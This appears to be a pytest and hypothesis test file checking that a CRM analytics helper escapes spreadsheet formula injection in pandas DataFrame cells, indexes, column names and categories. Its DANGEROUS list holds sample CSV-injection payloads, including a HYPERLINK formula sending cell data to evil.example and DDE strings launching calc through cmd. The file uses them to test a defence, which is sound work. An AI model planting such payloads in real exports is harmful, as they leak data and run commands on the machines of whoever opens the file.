"""No text cell that a spreadsheet would read as a formula survives ``neutralise_formulas``;
everything else, numbers first, is written as it was."""

from __future__ import annotations

import csv
import io
import re

import numpy as np
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from crm_analytics._spreadsheet import FORMULA_STARTS, neutralise_formulas

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?"&A1, "click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=",
]

# Text drawn with the dangerous first characters over-represented.
texts = st.one_of(
    st.text(max_size=12),
    st.builds(
        lambda start, rest: start + rest, st.sampled_from(FORMULA_STARTS), st.text(max_size=8)
    ),
    st.from_regex(r"[+-]?\d{1,4}(\.\d{1,3})?([eE][+-]?\d)?", fullmatch=True),
)
cells = st.one_of(texts, st.none(), st.integers(-(10**6), 10**6), st.floats(allow_nan=True))


def _expected(value: object) -> object:
    return "'" + value if _is_formula(value) else value


def _is_formula(value: object) -> bool:
    """The specification: text starting with a formula character that is not a plain
    decimal number (which a spreadsheet reads as that number)."""
    return (
        isinstance(value, str)
        and value.startswith(FORMULA_STARTS)
        and re.fullmatch(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?", value) is None
    )


@settings(max_examples=200, deadline=None)
@given(st.lists(cells, min_size=1, max_size=20))
def test_no_cell_starts_a_formula_and_each_escape_is_one_apostrophe(values):
    frame = pd.DataFrame({"value": pd.Series(values, dtype=object)})
    result = neutralise_formulas(frame)
    for before, after in zip(values, result["value"], strict=True):
        assert not _is_formula(after)
        if _is_formula(before):
            assert after == "'" + before
        else:
            assert after is before or (after != after and before != before)


@settings(max_examples=100, deadline=None)
@given(st.lists(texts, min_size=1, max_size=20, unique=True))
def test_the_index_the_column_names_and_categories_are_escaped_too(labels):
    frame = pd.DataFrame(
        {label: [label] for label in labels[:5]},
        index=pd.Index([labels[0]], name=labels[-1]),
    )
    frame["category"] = pd.Categorical([labels[0]], categories=labels)
    result = neutralise_formulas(frame)
    assert not any(_is_formula(label) for label in result.columns)
    assert not _is_formula(result.index[0]) and not _is_formula(result.index.name)
    assert not any(_is_formula(category) for category in result["category"].cat.categories)
    assert list(result.columns) == [_expected(label) for label in frame.columns]
    assert result.index.tolist() == [_expected(labels[0])]
    assert result["category"].iloc[0] == _expected(labels[0])


@settings(max_examples=100, deadline=None)
@given(
    st.lists(st.floats(allow_nan=True, allow_infinity=True), min_size=1, max_size=20),
    st.lists(st.integers(-(2**62), 2**62), min_size=1, max_size=20),
)
def test_numbers_stay_numbers(floats, integers):
    frame = pd.DataFrame({"amount": pd.Series(floats)})
    other = pd.DataFrame({"count": pd.Series(integers, dtype="int64")})
    pd.testing.assert_frame_equal(neutralise_formulas(frame), frame)
    pd.testing.assert_frame_equal(neutralise_formulas(other), other)


def test_each_dangerous_value_is_escaped_in_a_written_csv():
    frame = pd.DataFrame(
        {"customer_id": DANGEROUS, "clv": np.arange(len(DANGEROUS), dtype=float) - 3},
    )
    escaped = neutralise_formulas(frame)
    assert escaped["customer_id"].tolist() == ["'" + value for value in DANGEROUS]
    # pandas quotes a field holding a line break of its own line terminator only, so a lone
    # carriage return must be written with quoting on for the file to read back.
    written = escaped.to_csv(index=False, quoting=csv.QUOTE_NONNUMERIC)
    read_back = pd.read_csv(io.StringIO(written, newline=""), keep_default_na=False)
    assert read_back["customer_id"].tolist() == ["'" + value for value in DANGEROUS]
    assert read_back["clv"].tolist() == [-3.0, -2.0, -1.0, 0.0, 1.0, 2.0, 3.0]


def test_text_numbers_dates_and_missing_values_are_untouched():
    frame = pd.DataFrame(
        {
            "code": ["-12.5", "+3", "1e-3", "-.5", "85123A", None],
            "day": pd.to_datetime(["2024-01-01"] * 6),
            "flag": [True, False] * 3,
            "text": pd.array(["-1", "ok", pd.NA, "x", "y", "z"], dtype="string"),
        }
    )
    result = neutralise_formulas(frame)
    assert result is frame


def test_string_dtypes_keep_their_dtype():
    values = pd.array(["=1", "a", pd.NA], dtype="string")
    result = neutralise_formulas(pd.DataFrame({"text": values}))
    assert result["text"].dtype == values.dtype
    assert result["text"].tolist() == ["'=1", "a", pd.NA]


def test_categories_that_would_collide_fall_back_to_text():
    column = pd.Categorical(["=x", "'=x", "=x"])
    result = neutralise_formulas(pd.DataFrame({"c": column}))
    assert result["c"].tolist() == ["'=x", "'=x", "'=x"]


def test_a_multiindex_is_escaped_level_by_level():
    index = pd.MultiIndex.from_tuples([("=a", 1), ("b", 2)], names=["@segment", "k"])
    result = neutralise_formulas(pd.DataFrame({"n": [1, 2]}, index=index))
    assert result.index.tolist() == [("'=a", 1), ("b", 2)]
    assert list(result.index.names) == ["'@segment", "k"]


def test_the_input_frame_is_not_modified():
    frame = pd.DataFrame({"customer_id": ["=1", "a"]}, index=["+x", "y"])
    before = frame.copy()
    neutralise_formulas(frame)
    pd.testing.assert_frame_equal(frame, before)


@pytest.mark.parametrize("flag", [False])
def test_the_opt_out_for_machine_consumers_writes_the_values_as_they_are(flag):
    frame = pd.DataFrame({"customer_id": DANGEROUS})
    assert neutralise_formulas(frame, for_spreadsheets=flag) is frame
